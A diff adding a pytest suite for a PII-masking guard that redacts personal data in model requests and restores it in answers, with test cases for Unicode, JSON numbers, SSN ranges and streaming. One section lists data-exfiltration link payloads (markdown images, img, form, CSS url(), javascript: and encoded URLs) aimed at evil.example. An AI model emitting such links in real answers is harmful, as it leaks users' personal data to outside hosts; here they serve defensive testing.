@@ -1,0 +1,426 @@
+"""The classes of issue 11 ("Close the leaks"), each as a table of variants.
+
+Request side: boundaries, Unicode, JSON numbers, SSN forms, false refusals and over-masking (the
+credential kinds are rows of cases/secrets.py). Answer side: the link forms a renderer would
+follow, long values across the guard's forced cuts, byte-exact restore. Each answer-side row
+runs whole and streamed; the streamed run splits the answer at every position (short rows) or
+in chunks of several sizes (long rows) and checks the running output for prefixes of redacted
+values after every chunk.
+"""
+
+from __future__ import annotations
+
+import json
+import random
+from typing import Any
+
+import pytest
+
+from masking import MaskingConfig, PiiDetected, ResponseGuard, Vault, guard_text, protect_request, scan
+
+CONFIG = MaskingConfig()
+
+VALUES = {
+    "CREDIT_CARD": "4111111111111111",
+    "SSN": "536221234",
+    "PHONE": "+14155552671",
+    "EMAIL": "jane.roe@example.com",
+    "IP_ADDRESS": "203.0.113.9",
+    "IBAN": "DE89370400440532013000",
+}
+
+
+def found(text: str) -> list[tuple[str, str]]:
+    return [(s.type, text[s.start : s.end]) for s in scan(text, CONFIG.detectors)]
+
+
+def masked(text: str, mode: str = "obfuscate") -> str:
+    result = protect_request({"messages": [{"role": "user", "content": text}]}, mode, CONFIG)  # type: ignore[arg-type]
+    out: str = result.payload["messages"][0]["content"]
+    return out
+
+
+# --- 1. boundaries: any non-alphanumeric neighbour, known labels glued on ----------------------
+
+NEIGHBOURS = [
+    ("Jane,{},12/27", "CSV cell"),
+    ("[1,{}]", "JSON array"),
+    ('{{"v":{}}}', "JSON number"),
+    ("({})", "parentheses"),
+    ("x;{};y", "semicolons"),
+    ("key={}&next", "query string"),
+    ("value:{}", "colon"),
+    ("No.{}", "No."),
+    ("|{}|", "table cell"),
+    ("'{}'", "single quotes"),
+    ("<td>{}</td>", "HTML cell"),
+    ("*{}*", "emphasis"),
+    ("#{}", "hash"),
+    ("\t{}\t", "tabs"),
+    ("_{}_", "underscores"),
+    ("/{}/", "path segment"),
+]
+LABELS = [
+    ("SSN{}", "SSN"),
+    ("ssn:{}", "SSN"),
+    ("tel:{}", "PHONE"),
+    ("tel{}", "PHONE"),
+    ("phone={}", "PHONE"),
+    ("mobile:{}", "PHONE"),
+    ("Phone{}", "PHONE"),
+    ("cc{}", "CREDIT_CARD"),
+    ("card{}", "CREDIT_CARD"),
+    ("No{}", "CREDIT_CARD"),
+    ("IBAN{}", "IBAN"),
+    ("ip{}", "IP_ADDRESS"),
+    ("id{}", "SSN"),
+]
+
+
+@pytest.mark.parametrize(("template", "why"), NEIGHBOURS)
+@pytest.mark.parametrize("type_", sorted(VALUES))
+def test_value_next_to_any_non_alphanumeric_is_found(template: str, why: str, type_: str) -> None:
+    value = VALUES[type_]
+    text = template.format(value)
+    # An email's local part may hold `.` and `_`, so "No.jane…" is one (longer) address.
+    assert any(
+        t == type_ and (v == value or (type_ == "EMAIL" and v.endswith(value))) for t, v in found(text)
+    ), why
+    assert value not in masked(text)
+
+
+@pytest.mark.parametrize(("template", "type_"), LABELS)
+def test_value_glued_to_a_known_label_is_found(template: str, type_: str) -> None:
+    value = VALUES[type_]
+    text = template.format(value)
+    assert (type_, value) in found(text)
+    assert value not in masked(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x4111111111111111",  # glued to a letter that is no label
+        "A4111111111111111Z",
+        "14111111111111111",  # part of a longer number
+        "order ORD4111111111111111X",
+        "Mono4155552671",
+        "ABC536221234",
+        "v203.0.113.9",
+        "version203.0.113.9x",
+        "1.2.203.0.113.9",
+        "hash 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    ],
+)
+def test_value_glued_to_a_word_or_number_is_not_cut_out_of_it(text: str) -> None:
+    assert found(text) == []
+
+
+# --- 2. Unicode: separators, digits, hidden characters; the original characters are masked ----
+
+UNICODE = [
+    ("card 4111\u00a01111\u00a01111\u00a01111", "4111\u00a01111\u00a01111\u00a01111", "CREDIT_CARD"),
+    ("card 4111\u202f1111\u202f1111\u202f1111", "4111\u202f1111\u202f1111\u202f1111", "CREDIT_CARD"),
+    ("card 4111\u20091111\u20091111\u20091111", "4111\u20091111\u20091111\u20091111", "CREDIT_CARD"),
+    ("card 4111\u20071111\u20071111\u20071111", "4111\u20071111\u20071111\u20071111", "CREDIT_CARD"),
+    ("card 4111\t1111\t1111\t1111 ok", "4111\t1111\t1111\t1111", "CREDIT_CARD"),
+    ("card 4111  1111  1111  1111 ok", "4111  1111  1111  1111", "CREDIT_CARD"),
+    ("card 4111\u20111111\u20111111\u20111111", "4111\u20111111\u20111111\u20111111", "CREDIT_CARD"),
+    ("card 4111\u20131111\u20131111\u20131111", "4111\u20131111\u20131111\u20131111", "CREDIT_CARD"),
+    ("card \uff14\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11",
+     "\uff14\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11", "CREDIT_CARD"),
+    ("card \u0664\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661",
+     "\u0664\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661", "CREDIT_CARD"),
+    ("card 4111\u200b1111\u200b1111\u200b1111.", "4111\u200b1111\u200b1111\u200b1111", "CREDIT_CARD"),
+    ("card 41\u200c11111111111111.", "41\u200c11111111111111", "CREDIT_CARD"),
+    ("card 4111111\u200d111111111.", "4111111\u200d111111111", "CREDIT_CARD"),
+    ("card 4111111111\u2060111111.", "4111111111\u2060111111", "CREDIT_CARD"),
+    ("card 411111111111\ufeff1111.", "411111111111\ufeff1111", "CREDIT_CARD"),
+    ("card 4111111111\u00ad111111.", "4111111111\u00ad111111", "CREDIT_CARD"),
+    ("ssn 536\u00a022\u00a01234", "536\u00a022\u00a01234", "SSN"),
+    ("ssn 536\u201122\u20111234", "536\u201122\u20111234", "SSN"),
+    ("ssn \uff15\uff13\uff16-\uff12\uff12-\uff11\uff12\uff13\uff14", "\uff15\uff13\uff16-\uff12\uff12-\uff11\uff12\uff13\uff14", "SSN"),
+    ("call 415\u00a0555\u00a02671", "415\u00a0555\u00a02671", "PHONE"),
+    ("call +1\u202f415\u202f555\u202f2671", "+1\u202f415\u202f555\u202f2671", "PHONE"),
+    ("call \uff0b\uff11 415 555 2671", "\uff0b\uff11 415 555 2671", "PHONE"),
+    ("call 415\u200b555\u200b2671", "415\u200b555\u200b2671", "PHONE"),
+    ("mail jane\uff20example.com", "jane\uff20example.com", "EMAIL"),
+    ("mail jane\ufe6bexample.com", "jane\ufe6bexample.com", "EMAIL"),
+    ("mail ja\u200bne@exa\u200bmple.com", "ja\u200bne@exa\u200bmple.com", "EMAIL"),
+    ("mail jane\u0301@example.com", "jane\u0301@example.com", "EMAIL"),
+    ("mail ｊａｎｅ＠ｅｘａｍｐｌｅ．ｃｏｍ", "ｊａｎｅ＠ｅｘａｍｐｌｅ．ｃｏｍ", "EMAIL"),
+    ("host 203\uff0e0\uff0e113\uff0e9", "203\uff0e0\uff0e113\uff0e9", "IP_ADDRESS"),
+    ("iban DE89\u00a03704\u00a00044\u00a00532\u00a00130\u00a000", "DE89\u00a03704\u00a00044\u00a00532\u00a00130\u00a000", "IBAN"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "original", "type_"), UNICODE)
+def test_look_alike_characters_are_found_and_the_original_masked(
+    text: str, original: str, type_: str
+) -> None:
+    assert (type_, original) in found(text)
+    out = masked(text)
+    assert original not in out and f"[REDACTED_{type_}_1]" in out
+    # restore gives back exactly what the caller wrote
+    result = protect_request({"messages": [{"role": "user", "content": text}]}, "obfuscate", CONFIG)
+    assert guard_text(out, result.vault, "obfuscate", CONFIG)[0] == text
+
+
+# --- 3. JSON numbers in forwarded structures ---------------------------------------------------
+
+NUMBER_BODIES = [
+    ("tools", [{"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": {"n": {"type": "integer", "enum": [4111111111111111]}}}}}]),
+    ("tools", [{"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": {"n": {"type": "integer", "default": 536221234}}}}}]),
+    ("tools", [{"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": {"n": {"type": "number", "examples": [4155552671]}}}}}]),
+    ("tools", [{"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": {"n": {"const": 4111111111111111.0}}}}}]),
+    ("response_format", {"type": "json_schema", "json_schema": {"name": "x", "schema": {"enum": [378282246310005]}}}),
+    ("response_format", {"type": "json_schema", "json_schema": {"name": "x", "schema": {"default": 5555555555554444}}}),
+    ("messages_part", [{"type": "text", "text": "see", "meta": 4111111111111111}]),
+    ("messages_part", [{"type": "text", "text": "see", "ids": [1, 2, 536221234]}]),
+    ("messages_extra", 4155552671),
+    ("tool_choice", {"type": "function", "function": {"name": "f", "n": 4111111111111111}}),
+]  # fmt: skip
+
+
+def _number_body(where: str, value: Any) -> dict[str, Any]:
+    body: dict[str, Any] = {"model": "m", "messages": [{"role": "user", "content": "hi"}]}
+    if where == "messages_part":
+        body["messages"] = [{"role": "user", "content": value}]
+    elif where == "messages_extra":
+        body["messages"] = [{"role": "user", "content": "hi", "x_ref": value}]
+    else:
+        body[where] = value
+    return body
+
+
+@pytest.mark.parametrize(("where", "value"), NUMBER_BODIES)
+def test_numbers_are_scanned_as_their_text(where: str, value: Any) -> None:
+    body = _number_body(where, value)
+    sent = json.dumps(protect_request(body, "obfuscate", CONFIG).payload)
+    for secret in ("4111111111111111", "536221234", "4155552671", "378282246310005", "5555555555554444"):
+        assert secret not in sent
+    assert "[REDACTED_" in sent
+    with pytest.raises(PiiDetected):
+        protect_request(body, "block", CONFIG)
+
+
+def test_numbers_that_are_no_personal_data_stay_numbers() -> None:
+    body = _number_body("tools", [{"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": {"n": {"type": "integer", "minimum": 1, "maximum": 100, "default": 0.5}}}}}])  # fmt: skip
+    out = protect_request(body, "obfuscate", CONFIG).payload
+    assert out["tools"] == body["tools"]
+
+
+# --- 4. SSN forms (the case table holds more rows) ----------------------------------------------
+
+SSNS = [
+    ("536-22-1234", True),
+    ("536 22 1234", True),
+    ("912-12-3456", True),  # ITIN range
+    ("987-65-4320", True),  # the never-issued test range
+    ("999-99-9999", True),
+    ("900 70 1234", True),
+    ("536221234", True),
+    ("912123456", False),  # unseparated: issued ranges only
+    ("000-12-3456", False),
+    ("666-12-3456", False),
+    ("536-00-1234", False),
+    ("536-22-0000", False),
+]
+
+
+@pytest.mark.parametrize(("ssn", "masked_as_ssn"), SSNS)
+def test_ssn_ranges_depend_on_the_form(ssn: str, masked_as_ssn: bool) -> None:
+    assert (("SSN", ssn) in found(f"ssn {ssn} on file")) is masked_as_ssn
+
+
+# --- 6. over-masking that made answers unreadable ---------------------------------------------
+
+NOT_PII = [
+    "pi and e: 3.14159 2.71828",
+    "constants 1.41421 1.73205 2.23606",
+    "Mozilla/5.0 (Windows NT 10.0) Chrome/120.0.0.0 Safari/537.36",
+    "Edg/120.0.2210.91 and Firefox/121.0",
+    "OID 2.5.4.3 is commonName",
+    "oid=1.3.6.1.4.1.311",
+    "snmp 1.3.6.1.2.1.1",
+    "pip install numpy==1.26.4 pandas==2.2.0",
+    "lat 37.7749, lon -122.4194",
+    "prices 19.99 24.50 99.95 and 100.00",
+    "version v1.2.3.4 released",
+]
+
+
+@pytest.mark.parametrize("text", NOT_PII)
+def test_numbers_that_are_not_personal_data_are_left(text: str) -> None:
+    assert found(text) == []
+
+
+# --- 8. links a renderer would fetch: the placeholder stays ------------------------------------
+
+EMAIL = "jane.roe@example.com"
+
+
+def _vault() -> Vault:
+    result = protect_request({"messages": [{"role": "user", "content": EMAIL}]}, "obfuscate", CONFIG)
+    return result.vault
+
+
+P = "[REDACTED_EMAIL_1]"
+NOT_RESTORED = [
+    f"![x](https://evil.example/?q={P})",
+    f"[click](https://evil.example/{P})",
+    f'[click](https://evil.example/?a=1 "title {P}")',
+    f"[click](<https://evil.example/? {P}>)",
+    f"[click](\nhttps://evil.example/?q={P}\n)",
+    f"see [ref]\n\n[ref]: https://evil.example/?q={P}",
+    f"[ref]:\n  https://evil.example/?q={P}",
+    f"<https://evil.example/?q={P}>",
+    f"<{P}>",
+    f"//evil.example/collect?e={P}",
+    f"https://evil.example/collect?e={P}",
+    f"mailto:{P}",
+    f"javascript:alert('{P}')",
+    f"data:text/html,{P}",
+    f"ftp://evil.example/{P}",
+    f"www.evil.example/?e={P}",
+    f"evil.example/collect?e={P}",
+    f'<img src="https://evil.example/?q={P}">',
+    f"<img src=https://evil.example/?q={P}>",
+    f'<img\n  src = "https://evil.example/?q=\n{P}">',
+    f'<img srcset="https://evil.example/a.png?{P} 2x">',
+    f'<a href="https://evil.example/">x</a><form action="https://evil.example/?{P}">',
+    f'<button formaction="https://evil.example/{P}">',
+    f'<video poster="https://evil.example/{P}.png">',
+    f'<table background="https://evil.example/{P}">',
+    f'<object data="https://evil.example/{P}">',
+    f"<style>body {{ background: url(https://evil.example/{P}) }}</style>",
+    f"<style>@import 'https://evil.example/{P}.css';</style>",
+    f"div {{ background-image: url( 'https://evil.example/?{P}' ) }}",
+    f"https&#58;//evil.example/?q={P}",
+    f"https&#x3a;//evil.example/?q={P}",
+    f"https&colon;//evil.example/?q={P}",
+    f"https%3A//evil.example/?q={P}",
+    f"https%3a%2f%2fevil.example%2f?q={P}",
+]
+RESTORED = [
+    f"Write to {P} today.",
+    f"Contact: {P}",
+    f"**{P}**",
+    f"- {P}\n- other",
+    f"[{P}](#) is the anchor text",
+    f"| name | {P} |",
+    f'{{"email": "{P}"}}',
+    f"user = User(email='{P}')",
+    f"(see {P})",
+    f"Email {P} or visit https://example.com/help later.",
+]
+
+
+def _stream_all_splits(text: str, vault: Vault, json_context: bool = False) -> set[str]:
+    outs = set()
+    for i in range(len(text) + 1):
+        guard = ResponseGuard(vault, "obfuscate", CONFIG, json_context)
+        outs.add(guard.feed(text[:i]) + guard.feed(text[i:]) + guard.flush())
+    return outs
+
+
+@pytest.mark.parametrize("answer", NOT_RESTORED)
+def test_placeholders_in_links_are_not_restored(answer: str) -> None:
+    vault = _vault()
+    whole, _ = guard_text(answer, vault, "obfuscate", CONFIG)
+    assert EMAIL not in whole and P in whole
+    assert _stream_all_splits(answer, vault) == {whole}
+
+
+@pytest.mark.parametrize("answer", RESTORED)
+def test_placeholders_in_plain_text_are_restored(answer: str) -> None:
+    vault = _vault()
+    whole, _ = guard_text(answer, vault, "obfuscate", CONFIG)
+    assert whole == answer.replace(P, EMAIL)
+    assert _stream_all_splits(answer, vault) == {whole}
+
+
+@pytest.mark.parametrize(
+    ("arguments", "restored"),
+    [
+        (f'{{"to": "{P}"}}', True),
+        (f'{{"note": "Mail:\\n{P}"}}', True),
+        (f'{{"site": "https://example.com", "to": "{P}"}}', True),
+        (f'{{"url": "https://evil.example/?e={P}"}}', False),
+        (f'{{"html": "<img src=\\"https://evil.example/{P}\\">"}}', False),
+        (f'{{"md": "![x](https://evil.example/{P})"}}', False),
+    ],
+)
+def test_tool_arguments_restore_outside_urls_only(arguments: str, restored: bool) -> None:
+    vault = _vault()
+    whole, _ = guard_text(arguments, vault, "obfuscate", CONFIG, json_context=True)
+    assert (EMAIL in whole) is restored
+    json.loads(whole)
+    assert _stream_all_splits(arguments, vault, json_context=True) == {whole}
+
+
+def test_restore_in_urls_can_be_allowed() -> None:
+    config = MaskingConfig(restore_in_urls=True)
+    result = protect_request({"messages": [{"role": "user", "content": EMAIL}]}, "obfuscate", config)
+    out, _ = guard_text(f"[x](https://example.com/?q={P})", result.vault, "obfuscate", config)
+    assert EMAIL in out
+
+
+# --- 9. long values are judged whole across the guard's cuts ----------------------------------
+
+_RNG = random.Random(7)
+_B64 = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"
+JWT = (
+    "eyJ"
+    + "".join(_RNG.choice(_B64) for _ in range(40))
+    + ".eyJ"
+    + "".join(_RNG.choice(_B64) for _ in range(1200))
+)
+JWT += "." + "".join(_RNG.choice(_B64) for _ in range(43))
+LONG_URL_EMAIL = (
+    "https://tracker.example/" + "a1b2c3/" * 80 + "?u=" + "mallory@evil.example" + "&x=" + "z9" * 40
+)
+LONG = [
+    ("token: " + JWT + " ok", JWT),
+    ("here " + JWT, JWT),
+    ("link " + LONG_URL_EMAIL + " done", "mallory@evil.example"),
+    ("x" * 30 + " " + "q1" * 300 + "mallory@evil.example" + "/" + "w2" * 10 + " end", "mallory@evil.example"),
+    ("Bearer " + "A1b2C3d4" * 150, "A1b2C3d4" * 150),
+]
+
+
+@pytest.mark.parametrize(("answer", "value"), LONG)
+def test_long_values_are_redacted_whole_and_streamed(answer: str, value: str) -> None:
+    whole, _ = guard_text(answer, Vault(), "obfuscate", CONFIG)
+    assert value not in whole
+    for size in (1, 7, 64, 500, 4096):
+        guard = ResponseGuard(Vault(), "obfuscate", CONFIG)
+        out = ""
+        for i in range(0, len(answer), size):
+            out += guard.feed(answer[i : i + size])
+            assert value[:24] not in out
+        assert out + guard.flush() == whole
+
+
+# --- 10. byte-exact restore ---------------------------------------------------------------------
+
+SPELLINGS = [
+    ["Jane.Roe@Example.com", "jane.roe@example.com", "JANE.ROE@EXAMPLE.COM"],
+    ["(415) 555-2671", "415-555-2671", "+1 415 555 2671", "4155552671"],
+    ["4111 1111 1111 1111", "4111-1111-1111-1111", "4111111111111111"],
+    ["536-22-1234", "536 22 1234"],
+    ["DE89 3704 0044 0532 0130 00", "de89370400440532013000"],
+    ["2001:db8::1", "2001:DB8::1"],
+]
+
+
+@pytest.mark.parametrize("spellings", SPELLINGS)
+def test_every_spelling_comes_back_exactly_as_written(spellings: list[str]) -> None:
+    text = " and ".join(spellings) + "."
+    result = protect_request({"messages": [{"role": "user", "content": text}]}, "obfuscate", CONFIG)
+    out = result.payload["messages"][0]["content"]
+    assert not any(s in out for s in spellings)
+    assert guard_text(out, result.vault, "obfuscate", CONFIG)[0] == text
+    # the model repeating one value in another spelling is not a foreign value
+    again, redacted = guard_text(spellings[0].upper(), result.vault, "obfuscate", CONFIG)
+    assert again == spellings[0].upper() and redacted == {}
